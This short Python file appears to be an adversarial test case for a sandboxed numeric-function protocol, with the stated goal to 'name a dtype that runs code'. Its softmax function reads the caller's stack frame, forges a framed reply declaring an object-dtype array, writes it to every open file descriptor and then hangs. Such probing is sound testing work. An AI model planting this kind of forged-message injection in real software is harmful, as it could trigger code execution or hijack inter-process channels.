# goal: name a dtype that runs code
# expect: protocol
# ruff: noqa
import json
import os
import struct


def frame(header, body=b""):
    text = json.dumps(header).encode()
    return struct.pack(">4sIQ", b"CRF1", len(text), len(body)) + text + body


def everywhere(data):
    for fd in range(3, 64):
        try:
            os.write(fd, data)
        except OSError:
            pass


def softmax(x):
    import sys

    request = sys._getframe(2).f_locals["header"]["id"]
    node = {"t": "array", "dtype": "object", "shape": [1]}
    everywhere(frame({"id": request, "value": {"t": "tuple", "items": [node, []]}}, b"12345678"))
    while True:
        pass
